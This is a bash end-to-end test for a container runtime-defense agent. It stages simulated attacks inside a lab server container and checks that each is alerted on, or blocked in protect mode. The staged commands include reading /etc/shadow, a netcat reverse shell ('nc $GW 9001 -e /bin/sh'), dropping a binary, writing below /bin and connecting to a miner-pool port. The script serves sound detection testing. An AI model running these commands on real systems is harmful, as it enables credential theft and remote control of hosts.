#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Runtime defense end to end (issue 4, "What the tests must show"): a workload — a small server
# (`actions serve`, which has a remote-code-execution hole) and a client loop in a second container —
# runs under the agent, first in monitor mode, then in protect mode. Inside the server container we
# spawn a shell from the server (through its hole), copy and run a new binary (drift), read
# /etc/shadow, open a reverse shell to a listener on the host, run a package manager (the image has
# none: a stand-in /usr/bin/apt-get, the detector goes by the name), write below /bin, and connect to
# a miner-pool port. Each must be reported by the right rule id in the alerts file; in protect mode
# each must be blocked (exec denied, process killed, connect refused). The workload keeps running,
# with zero alerts of its own before, during and after.
#
# Without behaviour models (another branch), modes come from --default-mode; the built-in detectors
# are what is checked here.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/runtime/lib.sh"
need_sensor
need_cmd busybox
IMG=$(runtime_image)

SRV=t7010-srv-$$
CLI=t7010-cli-$$
at_exit "docker rm -f $SRV $CLI >/dev/null 2>&1"

# alerts NAME FILTER: the alerts of agent NAME matching FILTER (compact)
alerts() { jq -c -R "fromjson? | select($2)" "$T/$1.alerts"; }
has_alert() { [ -n "$(alerts "$1" "$2" | head -n 1)" ]; }
# wait_alert NAME FILTER: up to 10 s
wait_alert() {
        local _
        for _ in $(seq 50); do
                has_alert "$1" "$2" && return 0
                sleep 0.2
        done
        return 1
}
# the workload's own alerts: anything from the client, or from the server outside the attacks
workload_alerts() { alerts "$1" ".container.name == \"$CLI\" or (.container.name == \"$SRV\" and .process.cmdline[0] == \"actions\" and .process.cmdline[1] == \"serve\")" | wc -l; }
client_ok() { docker logs "$CLI" 2>&1 | grep -c '^connect 0 0'; }

# A listener on the host for the reverse shell: it keeps the connection open for a while, then says exit.
revshell_listener() {
        (sleep 6; echo exit) | busybox nc -l -p "$1" >"$T/revshell-$1.out" 2>&1 &
        at_exit "kill $! 2>/dev/null"
}

# ---- monitor mode ----
start_agent mon --alerts "$T/mon.alerts" --state "$T/state" --default-mode monitor --alert-window 60
docker run -d --name "$SRV" "$IMG" actions serve 8080 >/dev/null
SRV_IP=$(docker inspect -f '{{.NetworkSettings.IPAddress}}' "$SRV")
GW=$(docker inspect -f '{{.NetworkSettings.Gateway}}' "$SRV")
if [ -z "$SRV_IP" ] || [ -z "$GW" ]; then fail "the server container has no address"; fi
docker run -d --name "$CLI" "$IMG" sh -c "while true; do actions connect $SRV_IP 8080; sleep 0.2; done" >/dev/null
sleep 3
check "the workload runs (the client's connects succeed)" test "$(client_ok)" -gt 3
# (other containers may run on this host: only ours count)
ours() { alerts "$1" ".container.name == \"$SRV\" or .container.name == \"$CLI\"" | wc -l; }
[ "$(ours mon)" = 0 ] || alerts mon ".container.name == \"$SRV\" or .container.name == \"$CLI\"" >&2
check "monitor: zero alerts before the attacks" test "$(ours mon)" = 0

x() { docker exec "$SRV" sh -c "$1" >>"$T/attacks.out" 2>&1 || true; }
revshell_listener 9001
x "actions connect $SRV_IP 8080 'exec sleep 1; id'"              # shell from the server
x "cp /bin/actions /tmp/dropped && /tmp/dropped memfd t7010"      # drift
x "cat /etc/shadow >/dev/null"                                    # credential read
x "nc $GW 9001 -e /bin/sh" & RS=$!                                # reverse shell (nc -e: sh on the socket)
x "apt-get install curl"                                          # package manager
x "echo x >/bin/evil"                                             # write below /bin
x "actions connect-once $GW 4444"                                 # miner-pool port
wait "$RS" || true

M=".container.name == \"$SRV\""
check "monitor: shell spawned by the server → shell-from-server" \
        wait_alert mon "$M and .rule.id == \"shell-from-server\" and .action == \"alert\" and .mitre.technique == \"T1059.004\""
check "monitor: the copied binary → drift" \
        wait_alert mon "$M and .rule.id == \"drift\" and .subject == \"/tmp/dropped\""
check "monitor: /etc/shadow read → sensitive-file-read" \
        wait_alert mon "$M and .rule.id == \"sensitive-file-read\" and .subject == \"/etc/shadow\" and .process.cmdline == [\"cat\", \"/etc/shadow\"]"
check "monitor: nc -e /bin/sh → reverse-shell" \
        wait_alert mon "$M and .rule.id == \"reverse-shell\" and .severity == \"critical\""
check "monitor: apt-get → package-manager" \
        wait_alert mon "$M and .rule.id == \"package-manager\" and .subject == \"apt-get\""
check "monitor: write below /bin → write-system-dir" \
        wait_alert mon "$M and .rule.id == \"write-system-dir\" and .subject == \"/bin/evil\""
check "monitor: connect to port 4444 → miner-pool-port" \
        wait_alert mon "$M and .rule.id == \"miner-pool-port\" and .subject == \"$GW:4444\""
check "monitor: nothing was blocked" test "$(alerts mon '.action != "alert"' | wc -l)" = 0
check "monitor: alerts carry the documented fields" \
        has_alert mon "$M and .time and .host and .container.id and .image.name == \"$IMG\" and .rule.title and
                .process.pid > 0 and .process.ppid > 0 and .process.exe and .process.uid == 0 and .process.user == \"root\" and
                .observed and .count >= 1 and .first and .last and .incident > 0"
ours_incidents() { alerts "$1" ".container.name == \"$SRV\" or .container.name == \"$CLI\"" | jq .incident | sort -u | wc -l; }
n1=$(ours_incidents mon)
c1=$(client_ok)
sleep 3
check "monitor: the workload keeps running after the attacks" test "$(client_ok)" -gt "$c1"
check "monitor: no new incident while only the workload runs" \
        test "$(ours_incidents mon)" = "$n1"
check "monitor: zero alerts from the workload itself" test "$(workload_alerts mon)" = 0
stop_agent mon

check "incidents: the store lists them offline" \
        sh -c "'$STOCKADE' incidents list --state '$T/state' --format json | jq -e 'length >= 7'"
ID=$(jq -R -r "fromjson? | select(.rule.id == \"shell-from-server\") | .incident" "$T/mon.alerts" | head -n 1)
"$STOCKADE" incidents show "$ID" --state "$T/state" --format json >"$T/incident.json" || fail "incidents show $ID failed"
check "incidents: the record has the process tree with hashes, files, connections, recent events" \
        json_ok "$T/incident.json" ".rule_id == \"shell-from-server\" and (.forensics.process_tree | length >= 1) and
                (.forensics.events | length >= 1) and (.forensics | has(\"open_files\") and has(\"connections\"))"
json_ok "$T/incident.json" '[.forensics.process_tree[] | select(.cmdline[1] == "serve")] | length > 0' ||
        jq -c .forensics.process_tree "$T/incident.json" >&2
check "incidents: the process tree reaches the server, with its executable's sha256" \
        json_ok "$T/incident.json" "[.forensics.process_tree[] | select(.cmdline[1] == \"serve\") | .sha256 | test(\"^[0-9a-f]{64}$\")] | any"

# ---- protect mode (the same containers keep running) ----
start_agent pro --alerts "$T/pro.alerts" --state "$T/state" --default-mode protect --alert-window 60
sleep 2 # the workload's events bring its containers under the exec guard and the connect hook
check "protect: zero alerts before the attacks" test "$(ours pro)" = 0
: >"$T/attacks.out"
revshell_listener 9002
x "actions connect $SRV_IP 8080 'exec sleep 5; echo shell-survived'"
x "cp /bin/actions /tmp/dropped2; /tmp/dropped2 memfd t7010 || echo drift-exec-refused"
x "cat /etc/shadow >/dev/null; read line </etc/shadow; sleep 5; echo shadow-survived"
x "nc $GW 9002 -e /bin/sh" & RS=$!
x "apt-get install curl && echo apt-survived"
x "echo x >/bin/evil2; sleep 5; echo write-survived"
x "actions connect-once $GW 4444"
wait "$RS" || true
sleep 1
check "protect: the server's shell was killed" \
        wait_alert pro "$M and .rule.id == \"shell-from-server\" and .action == \"killed\""
check "protect: the dropped binary's exec was denied (drift)" \
        wait_alert pro "$M and .rule.id == \"drift\" and .subject == \"/tmp/dropped2\" and .action == \"denied\""
check "protect: ... and did not run" grep -q "drift-exec-refused" "$T/attacks.out"
check "protect: the /etc/shadow reader was killed" \
        wait_alert pro "$M and .rule.id == \"sensitive-file-read\" and .action == \"killed\""
# nc itself is killed at its exec (rule netcat) before it connects, or else the shell it starts is
check "protect: the reverse shell was killed (nc at its exec, or the shell)" \
        wait_alert pro "$M and (.rule.id == \"reverse-shell\" or (.rule.id == \"netcat\" and (.process.cmdline | index(\"-e\")))) and .action == \"killed\""
check "protect: the package manager was killed" \
        wait_alert pro "$M and .rule.id == \"package-manager\" and .action == \"killed\""
check "protect: the writer below /bin was killed" \
        wait_alert pro "$M and .rule.id == \"write-system-dir\" and .action == \"killed\""
check "protect: the connect to port 4444 was refused" \
        wait_alert pro "$M and .rule.id == \"miner-pool-port\" and .action == \"denied\""
check "protect: ... with EPERM" grep -q "^connect -1 1$" "$T/attacks.out"
check "protect: no attack finished (nothing says it survived)" sh -c "! grep survived '$T/attacks.out'"
c2=$(client_ok)
sleep 3
check "protect: the workload keeps running" test "$(client_ok)" -gt "$c2"
check "protect: zero alerts from the workload itself" test "$(workload_alerts pro)" = 0
stop_agent pro
last_mon=$(jq -R 'fromjson? | .incident' "$T/mon.alerts" | sort -n | tail -n 1)
check "protect: incident ids continue after the restart (one store)" \
        test "$(jq -R 'fromjson? | .incident' "$T/pro.alerts" | sort -n | head -n 1)" -gt "$last_mon"
note "attacks said: $(tr '\n' ';' <"$T/attacks.out")"
note "protect agent: $(grep -h 'findings\|detection to\|event to detection' "$T/pro.err" | tr '\n' ' ')"
